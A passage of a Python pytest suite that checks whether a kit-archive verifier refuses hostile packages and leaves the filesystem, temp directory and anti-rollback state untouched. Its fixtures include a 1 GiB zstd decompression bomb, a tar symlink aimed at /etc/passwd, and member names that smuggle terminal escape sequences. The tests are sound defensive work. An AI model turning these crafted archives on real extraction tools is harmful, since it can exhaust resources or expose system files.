    keys = {label: root / "keys" / f"{label}.pub" for label in KEYS}
    for label, key in KEYS.items():
        keys[label].write_bytes(key.public.to_pem())
    kit_path = root / "kits" / f"{name}.kit.tar.zst"
    kit_path.write_bytes(data)
    state_dir = root / "state"
    if state is not None:
        state_dir.mkdir()
        (state_dir / "hostile-kit@stable.json").write_text(json.dumps(state))
    return Sandbox(root, kit_path, root / "cwd", state_dir, root / "tmp", keys)


def _snapshot(root: Path) -> dict[str, str]:
    """Every path under ``root`` with a digest of its content: what was written shows up as a difference."""
    listing: dict[str, str] = {}
    for path in sorted(root.rglob("*")):
        listing[str(path.relative_to(root))] = "dir" if path.is_dir() else sha(path.read_bytes())
    return listing


def _arguments(box: Sandbox, case: Case) -> list[str]:
    arguments = ["verify", str(box.kit), "--product", "demo"]
    for label in case.keys:
        arguments += ["--key", str(box.keys[label])]
    return arguments + list(case.args)


def _verify_in_process(box: Sandbox, case: Case, monkeypatch: pytest.MonkeyPatch) -> Outcome:
    monkeypatch.chdir(box.cwd)
    monkeypatch.setattr(tempfile, "tempdir", str(box.scratch))
    started = time.monotonic()
    result = run_kit(*_arguments(box, case), env={"KIT_STATE_DIR": str(box.state), "TMPDIR": str(box.scratch)})
    return Outcome(result.exit_code, result.stdout, result.stderr, seconds=time.monotonic() - started)


def _verify_in_child(box: Sandbox, case: Case) -> Outcome:
    """Run the real CLI in a child process; its peak RSS comes from wait4, so it is the child's alone."""
    env = {**os.environ, "KIT_STATE_DIR": str(box.state), "TMPDIR": str(box.scratch)}
    env.pop("KIT_DEBUG", None)
    started = time.monotonic()
    with (box.root / "out.log").open("w+b") as out, (box.root / "err.log").open("w+b") as err:
        child = subprocess.Popen(
            [sys.executable, "-m", "kitbuilder.cli", *_arguments(box, case)],
            cwd=box.cwd,
            env=env,
            stdout=out,
            stderr=err,
        )
        _, status, usage = os.wait4(child.pid, 0)
        child.returncode = os.waitstatus_to_exitcode(status)
        seconds = time.monotonic() - started
        out.seek(0)
        err.seek(0)
        stdout, stderr = out.read().decode(), err.read().decode()
    (box.root / "out.log").unlink()
    (box.root / "err.log").unlink()
    return Outcome(child.returncode, stdout, stderr, peak_rss=usage.ru_maxrss * 1024, seconds=seconds)


@pytest.fixture(scope="module")
def baseline(tmp_path_factory: pytest.TempPathFactory) -> Outcome:
    """The untampered crafted kit, verified by the real CLI in a child process (exit code and peak RSS)."""
    box = _sandbox(tmp_path_factory.mktemp("baseline"), "good", kit())
    return _verify_in_child(box, Case(kit, 0, ()))


def test_untampered_crafted_kit_verifies(baseline: Outcome, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The factory's kit as built passes, in a child and in process, so each refusal below comes from its defect."""
    assert baseline.exit_code == 0, baseline.stderr
    assert baseline.stdout.startswith("OK ") and "7 members safe" in baseline.stdout
    box = _sandbox(tmp_path, "good", kit())
    outcome = _verify_in_process(box, Case(kit, 0, ()), monkeypatch)
    assert outcome.exit_code == 0, outcome.stderr
    assert (box.state / "hostile-kit@stable.json").exists(), "a kit that passes is recorded"


def test_factory_kit_is_a_plain_tar_stream() -> None:
    """What stock `zstd -dc | tar -t` sees in the factory's kit: the members in order, nothing else."""
    import zstandard

    data = kit()
    stream = zstandard.ZstdDecompressor().stream_reader(io.BytesIO(data), read_across_frames=True).read()
    with tarfile.open(fileobj=io.BytesIO(stream)) as archive:
        names = archive.getnames()
    assert names == [
        "docs/a.md",
        "docs/b.sql",
        "docs/c.bin",
        "SHA256SUMS",
        "SHA256SUMS.sig",
        "manifest.json",
        "manifest.dsse.json",
    ]
    assert stream.endswith(END_OF_ARCHIVE) and len(stream) % tarfmt.BLOCK == 0


def test_factory_bomb_really_decodes_to_a_gibibyte() -> None:
    """The bomb cases mean something: a stock zstd decoder turns the 32 KiB frame into 1 GiB of zeros."""
    import zstandard

    bomb = rle_frame(GiB)
    assert len(bomb) < 40_000
    reader = zstandard.ZstdDecompressor().stream_reader(io.BytesIO(bomb))
    total = 0
    while chunk := reader.read(8 * MiB):
        assert not any(chunk[:: 64 * 1024])
        total += len(chunk)
    assert total == GiB


def test_suite_covers_every_category() -> None:
    assert len(CASES) >= 30
    assert {case.exit_code for case in CASES.values()} == {3, 4, 5, 6}


@pytest.mark.parametrize("name", _params())
def test_hostile_kit_is_refused(name: str, baseline: Outcome, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    case = CASES[name]
    box = _sandbox(tmp_path, name, case.make(), case.state)
    before = _snapshot(tmp_path)
    outcome = _verify_in_child(box, case) if case.measure else _verify_in_process(box, case, monkeypatch)

    assert outcome.exit_code == case.exit_code, f"{name}: exit {outcome.exit_code}: {outcome.stderr}"
    stderr = outcome.stderr
    assert stderr.endswith("\n") and stderr.count("\n") == 1, f"not one line: {stderr!r}"
    assert "Traceback" not in stderr
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f]", stderr), f"control characters in the error: {stderr!r}"
    kind = re.match(r"kit: (\w+) error: ", stderr)
    assert kind and kind.group(1) in KINDS[case.exit_code], stderr
    for word in case.words:
        assert word in stderr, f"{word!r} not in {stderr!r}"
    assert outcome.stdout == ""
    assert list(box.cwd.iterdir()) == [], "written to the working directory"
    assert list(box.scratch.iterdir()) == [], "left something in the temp dir"
    assert _snapshot(tmp_path) == before, "written next to the kit, to the keys or to the anti-rollback state"
    if case.measure:
        assert baseline.peak_rss is not None and outcome.peak_rss is not None
        growth = outcome.peak_rss - baseline.peak_rss
        assert growth < 100 * MiB, f"peak RSS {outcome.peak_rss >> 20} MiB, {growth >> 20} MiB over a good kit"
        assert outcome.seconds < 15, f"took {outcome.seconds:.1f}s to refuse"


def test_member_name_cannot_write_escape_sequences_to_a_terminal(tmp_path: Path) -> None:
    """On a terminal click keeps ANSI sequences, so a hostile member name must be escaped before it is printed."""
    box = _sandbox(tmp_path, "escape", kit(with_header("docs/x.md", name=ESC_NAME)))
    controller, terminal = pty.openpty()
    env = {**os.environ, "KIT_STATE_DIR": str(box.state), "TMPDIR": str(box.scratch)}
    child = subprocess.Popen(
        [sys.executable, "-m", "kitbuilder.cli", *_arguments(box, Case(kit, 5, ())), "--quiet"],
        cwd=box.cwd,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=terminal,
    )
    os.close(terminal)
    shown = b""
    while select.select([controller], [], [], 30)[0]:
        try:
            chunk = os.read(controller, 4096)
        except OSError:  # EIO: the child closed its end of the terminal
            break
        if not chunk:
            break
        shown += chunk
    os.close(controller)
    assert child.wait(30) == 5, shown
    assert b"member docs/" in shown
    assert b"\x1b" not in shown, f"escape sequences reached the terminal: {shown!r}"


def _gnu_tar() -> str | None:
    tar = shutil.which("tar")
    if tar is None:
        return None
    version = subprocess.run([tar, "--version"], capture_output=True, text=True).stdout
    return tar if "GNU tar" in version else None


def _verified_listing(data: bytes) -> list[tuple[str, str, int]]:
    """(mode, path, size) of each member as verify checked it: the index of a kit it accepted, in file order."""
    index_offset = int.from_bytes(data[-8:], "little")
    size = int.from_bytes(data[index_offset + 4 : index_offset + 8], "little")
    document = json.loads(data[index_offset + 8 : index_offset + 8 + size])
    return [("-rw-r--r--", member["path"], member["size"]) for member in document["members"]]


@pytest.mark.parametrize(
    "name",
    [
        "untampered",
        "size_field_leading_nul",
        "mode_field_leading_nul",
    ],
)
def test_gnu_tar_lists_exactly_what_verify_checked(name: str, tmp_path: Path) -> None:
    """format.md: what `zstd -dc KIT | tar -x` produces is what verify checked. Checked here with GNU tar -tv."""
    tar = _gnu_tar()
    if tar is None:
        pytest.skip("GNU tar not installed")
    import zstandard

    data = kit() if name == "untampered" else CASES[name].make()
    box = _sandbox(tmp_path, name, data)
    verdict = run_kit(*_arguments(box, Case(kit, 0, ())), env={"KIT_STATE_DIR": str(box.state)}).exit_code
    if name != "untampered":
        # GNU tar would read these headers differently; the verifier must refuse them rather than check
        # something else than what tar extracts.
        assert verdict == 5
        return
    assert verdict == 0
    stream = zstandard.ZstdDecompressor().stream_reader(io.BytesIO(data), read_across_frames=True).read()
    listing = subprocess.run(
        [tar, "-tv", "--numeric-owner"], input=stream, capture_output=True, env={**os.environ, "LC_ALL": "C"}
    )
    assert listing.returncode == 0, listing.stderr
    seen = []
    for line in listing.stdout.decode().splitlines():
        mode, _owner, size, _date, _time, path = line.split(maxsplit=5)
        seen.append((mode, path, int(size)))
    assert seen == _verified_listing(data)


def test_apply_of_hostile_kit_writes_nothing(tmp_path: Path) -> None:
    """`kit apply` refuses a hostile kit before touching the database, the artifacts dir or the temp dir."""
    box = _sandbox(tmp_path, "apply", typed(b"2", linkname=b"/etc/passwd"))
    db = box.cwd / "site.db"
    env = {**os.environ, "KIT_STATE_DIR": str(box.state), "TMPDIR": str(box.scratch)}
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "kitbuilder.cli",
            "apply",
            str(box.kit),
            "--key",
            str(box.keys["release"]),
            "--db",
            f"sqlite:///{db}",
            "--artifacts",
            str(box.cwd / "artifacts"),
        ],
        cwd=box.cwd,
        env=env,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 5, result.stderr
    assert "symbolic link" in result.stderr and result.stderr.count("\n") == 1
    assert list(box.cwd.iterdir()) == [] and list(box.scratch.iterdir()) == []
    assert not box.state.exists()
